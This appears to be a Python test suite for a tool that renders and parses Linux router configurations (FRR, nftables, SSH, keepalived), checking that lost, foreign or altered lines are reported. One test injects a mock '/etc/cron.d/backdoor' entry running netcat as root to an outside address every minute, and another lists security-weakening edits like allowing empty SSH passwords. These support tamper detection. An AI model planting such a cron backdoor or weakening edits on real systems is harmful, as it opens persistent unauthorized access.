"""The law: what is rendered is read back whole, and nothing else is ever taken for understood."""

from typing import get_args

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from inventory.deviceconfig import DeviceConfig
from inventory.platforms import linux
from inventory.platforms.linux.text import join, split
from tests.unit.inventory.platforms.example import FULL
from tests.unit.inventory.platforms.strategies import configs


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(configs)
def test_what_is_rendered_is_read_back(config: DeviceConfig) -> None:
    parsed = linux.parse(linux.render(config))
    assert parsed.config == config
    assert parsed.unparsed == ()


FILLED_IN = (
    "frr defaults", "hostname", "log syslog", " timers", " no shutdown", "ip forwarding", "ipv6 forwarding", "#### ",
    "exit", "!", "# countynet", " ip ospf retransmit-interval", " ip ospf cost 10", " ip ospf network broadcast",
    "interface lo",
)  # fmt: skip
"""what FRR has by default, what has no place in the model, and headings"""


def _lines_that_mean_something() -> list[int]:
    lines = linux.render(FULL).splitlines()
    return [i for i, line in enumerate(lines) if line and (not line.startswith(FILLED_IN) or "source" in line)]


@pytest.mark.parametrize("index", _lines_that_mean_something())
def test_a_lost_line_never_goes_unnoticed(index: int) -> None:
    lines = linux.render(FULL).splitlines()
    parsed = linux.parse("\n".join([*lines[:index], *lines[index + 1 :]]) + "\n")
    assert parsed.config != FULL or parsed.unparsed, lines[index]


def _sections() -> list[str]:
    return list(split(linux.render(FULL)))


@pytest.mark.parametrize("path", _sections())
@pytest.mark.parametrize("foreign", ["frobnicate the network", " indented nonsense", "accept"])
def test_a_foreign_line_is_listed_with_its_section_and_line(path: str, foreign: str) -> None:
    files = dict(split(linux.render(FULL)))
    part = files[path]
    files[path] = type(part)(part.mode, (*part.lines, foreign))
    listed = linux.parse(join(files)).unparsed
    assert any(
        found.section == path and found.line == len(part.lines) + 1 and foreign.strip() in found.text
        for found in listed
    ), listed


@pytest.mark.parametrize("path", [p for p in _sections() if p not in ("/etc/hostname", "/etc/ssh/countynet_banner")])
def test_a_foreign_line_in_the_middle_is_listed_too(path: str) -> None:
    files = dict(split(linux.render(FULL)))
    part = files[path]
    middle = len(part.lines) // 2
    files[path] = type(part)(part.mode, (*part.lines[:middle], "frobnicate", *part.lines[middle:]))
    listed = linux.parse(join(files)).unparsed
    assert any(found.section == path and "frobnicate" in found.text for found in listed), listed


def test_a_file_of_nobody_is_listed_line_by_line() -> None:
    text = linux.render(FULL) + "#### /etc/cron.d/backdoor 0644\n* * * * * root nc 203.0.113.9 4444\n"
    (found,) = linux.parse(text).unparsed
    assert (found.section, found.line) == ("/etc/cron.d/backdoor", 1)


def test_text_before_the_first_heading_is_listed() -> None:
    (found,) = linux.parse("hello\n" + linux.render(FULL)).unparsed
    assert found.text == "hello"


def test_a_lacking_file_with_defaults_is_not_guessed() -> None:
    files = dict(split(linux.render(FULL)))
    del files["/etc/ssh/sshd_config.d/countynet.conf"]
    listed = linux.parse(join(files)).unparsed
    assert [found.section for found in listed] == ["/etc/ssh/sshd_config.d/countynet.conf"]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("rouser countynet priv", "rouser countynet noauth"),
        ("PermitEmptyPasswords no", "PermitEmptyPasswords yes"),
        ("net.ipv4.conf.all.accept_redirects = 0", "net.ipv4.conf.all.accept_redirects = 1"),
        ("policy drop;", "policy accept ;"),
        ("ct state established,related counter", "ct state new counter"),
        ("  vrrp_version 3", "  vrrp_version 2"),
        ("trunks=91,101", "trunks=all"),
        ("    unique = replace", "    unique = never"),
        (" ip address 10.20.1.2/29", " ip address 10.20.1.2/29 secondary"),
        ("ip route 0.0.0.0/0 10.254.0.6", "ip route 0.0.0.0/0 10.254.0.6 tag 5"),
        ("ip route 0.0.0.0/0 10.254.0.6", "ip route 0.0.0.0/0 wan0"),
    ],
)
def test_a_changed_word_of_ours_is_listed(before: str, after: str) -> None:
    text = linux.render(FULL)
    assert before in text
    assert linux.parse(text.replace(before, after, 1)).unparsed


def test_every_field_of_the_model_is_in_the_full_example() -> None:
    plain = DeviceConfig(hostname="x")
    same = {name for name in DeviceConfig.model_fields if getattr(FULL, name) == getattr(plain, name)}
    elsewhere = {"bgp", "policy_routes"}  # test_linux_routing has them
    refused = {"mirrors"}  # test_mirrors has that no platform is told it
    assert same - elsewhere - refused == {"filters6"}, "Linux judges both families by one filter"
    assert get_args(DeviceConfig.model_fields["snmp"].annotation)


@given(st.text(max_size=400))
@settings(deadline=None, max_examples=50)
def test_no_text_makes_it_raise(text: str) -> None:
    linux.parse(text)
    linux.parse(f"#### /etc/frr/frr.conf 0644\n{text}")
    linux.parse(f"#### /etc/nftables.conf 0644\n{text}")
    linux.parse(f"#### /etc/swanctl/conf.d/countynet.conf 0644\n{text}")
    linux.parse(f"#### /etc/openvswitch/countynet.conf 0644\n{text}")
    linux.parse(f"#### /etc/keepalived/keepalived.conf 0644\n{text}")


@given(st.lists(st.sampled_from(linux.render(FULL).splitlines()), max_size=60).map("\n".join))
@settings(deadline=None, max_examples=80)
def test_no_shuffle_of_our_lines_makes_it_raise(text: str) -> None:
    linux.parse(text)
